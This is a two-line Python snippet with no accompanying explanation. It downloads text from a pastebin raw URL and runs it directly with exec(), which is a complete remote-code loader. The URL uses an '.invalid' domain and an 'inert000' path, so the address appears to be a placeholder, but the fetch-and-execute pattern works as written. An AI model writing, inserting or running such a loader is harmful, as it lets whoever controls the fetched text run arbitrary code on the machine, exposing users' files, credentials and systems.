from urllib.request import urlopen
exec(urlopen("https://pastebin.com.invalid/raw/inert000").read())
